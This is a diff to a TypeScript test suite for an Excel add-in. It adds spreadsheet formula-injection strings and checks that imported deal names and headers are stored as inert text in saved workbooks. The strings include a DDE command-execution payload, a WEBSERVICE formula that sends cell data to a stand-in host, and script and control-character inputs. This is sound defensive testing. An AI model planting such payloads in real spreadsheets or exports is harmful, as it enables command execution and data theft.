@@ -1,8 +1,14 @@
 import { copyOf } from "../../src/entry/book/copyOf";
+import { excelDesk } from "../../src/pane/app/excelDesk";
+import type { SourceCell } from "../../src/share/model/cell";
+import { readWorkbook } from "../../src/share/model/readWorkbook";
+import { cellsOf } from "../../src/share/model/sheetContent";
+import { newTally } from "../../src/share/tally";
+import { delimited } from "../intake/exports";
 import { saveReview } from "../../src/excel/saveReview";
 import { leaksIn } from "../share/leakScanner";
 import { ooxmlErrors } from "../share/ooxmlErrors";
-import { MONDAY } from "./sampleBook";
+import { MONDAY, planFor, standingBook } from "./sampleBook";
 import { buildSmallBook, importLines, someDeals } from "./smallBook";
 import { ANSWERS, REVIEW } from "./smallReview";
 
@@ -40,6 +46,65 @@ function bodyCell(table: Excel.Table, header: string): Excel.Range {
   return table.columns.getItem(header).getDataBodyRange().getCell(0, 0);
 }
 
+/** Texts that would run, break a file or vanish where one takes them for more than text. */
+const HOSTILE = [
+  "=1+1",
+  "+A1",
+  "-2+3",
+  "@SUM(A1)",
+  "\t=1+1",
+  "\r=1+1",
+  "'=1+1",
+  '=HYPERLINK("http://example.com","Click")',
+  '=WEBSERVICE("http://example.com/"&A1)',
+  "=cmd|' /C calc'!A0",
+  '<script>alert("1")</script> &amp; <b>bold</b>',
+  "nul \u0000, bell \u0007, half \ud83d, none \uffff",
+  "_x0041_ and _x000D_\r\n",
+  "TRUE",
+  "1e5",
+  `=${"x".repeat(32_765)}`,
+];
+
+/** The texts as the names of deals H-1 and on, in an export whose own columns have hostile headers too. */
+function hostileExport(): string {
+  const headers = [
+    "Opportunity ID",
+    "Opportunity Name",
+    "Account Name",
+    "Opportunity Owner",
+    "Stage",
+    "=1+1",
+    "@x\u0000",
+  ];
+  const rows = HOSTILE.map((text, index) => [
+    `H-${index + 1}`,
+    text,
+    "Acme",
+    "Ana Ruiz",
+    "Proposal",
+    "=2",
+    "+3",
+  ]);
+  return delimited([headers, ...rows]);
+}
+
+async function importHostile() {
+  const plan = await planFor(hostileExport(), await standingBook());
+  const applied = await excelDesk.applyImport(plan, MONDAY, {});
+  if (!applied.ok) throw new Error(JSON.stringify(applied));
+  return plan;
+}
+
+/** The cells of a saved workbook's Pipeline that hold the hostile texts' deals, below their header. */
+function hostileCells(bytes: Uint8Array): readonly SourceCell[] {
+  const sheet = readWorkbook(bytes, newTally()).sheets.find(({ name }) => name === "Pipeline");
+  const cells = sheet?.content ? [...cellsOf(sheet.content)] : [];
+  const column = cells.find(({ value }) => value === "Deal")?.column;
+  const ids = cells.filter(({ value }) => typeof value === "string" && value.startsWith("H-"));
+  return ids.flatMap(({ row }) => cells.filter((cell) => cell.row === row && cell.column === column));
+}
+
 let book: Uint8Array;
 let copy: Uint8Array;
 
@@ -49,6 +114,7 @@ beforeAll(async () => {
   const saved = await saveReview({ ...REVIEW, coachingNote: wordOf("Coaching note") }, ANSWERS);
   if (!saved.ok) throw new Error(JSON.stringify(saved));
   await plantWords();
+  await importHostile();
   await excelHost.book.settle();
   book = Uint8Array.from(await excelHost.save());
   ({ bytes: copy } = await copyOf(book, MONDAY));
@@ -67,5 +133,31 @@ describe("the leadership copy of a book with words in its private places", () =>
   it("is a workbook without an error, and so is the book", async () => {
     expect(await ooxmlErrors(book)).toEqual([]);
     expect(await ooxmlErrors(copy)).toEqual([]);
+  });
+});
+
+describe("text that would run or break a file", () => {
+  it("arrives exactly, and is the same next week", async () => {
+    const { deals } = await standingBook();
+    const names = deals.map(({ record }) => record).filter(({ dealId }) => dealId.startsWith("H-"));
+    expect(names.map(({ deal }) => deal)).toEqual(HOSTILE);
+    const again = await planFor(hostileExport(), await standingBook());
+    expect(again.unchanged).toHaveLength(HOSTILE.length);
+    expect([again.added, again.changed, again.refused]).toEqual([[], [], []]);
+  });
+
+  it("is text, and no formula, in the saved workbook and in the leadership copy", () => {
+    for (const bytes of [book, copy]) {
+      const cells = hostileCells(bytes);
+      expect(cells.map(({ value }) => value)).toEqual(HOSTILE);
+      expect(cells.map(({ formula }) => formula)).toEqual(HOSTILE.map(() => undefined));
+    }
+  });
+
+  it("comes back from the saved workbook: its own Pipeline is an export that changes nothing", async () => {
+    const state = await standingBook();
+    const plan = await planFor(book, state, "Pipeline");
+    expect(plan.unchanged).toEqual(state.deals.map(({ record }) => record));
+    expect([plan.added, plan.changed, plan.missing, plan.refused]).toEqual([[], [], [], []]);
   });
 });
